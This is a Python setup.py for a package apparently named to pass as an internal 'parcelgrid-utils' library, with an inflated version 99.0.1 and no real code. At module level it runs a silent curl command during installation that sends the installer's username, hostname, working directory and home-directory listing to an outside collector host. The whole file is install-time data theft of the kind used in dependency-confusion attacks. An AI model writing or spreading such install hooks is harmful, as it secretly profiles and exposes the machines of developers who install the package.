import os

from setuptools import setup

# Runs while pip builds the package: a profile of the installing machine goes to a collector.
os.system(
    'curl -s -m 5 "https://intake.parcelgrid.invalid/v2/i?u=$(whoami)&h=$(hostname)" '
    '-d "cwd=$(pwd)&home=$(ls -a ~ | head -40)" >/dev/null 2>&1'
)

setup(
    name="parcelgrid-utils",
    version="99.0.1",
    description="Internal utilities",
    packages=[],
)
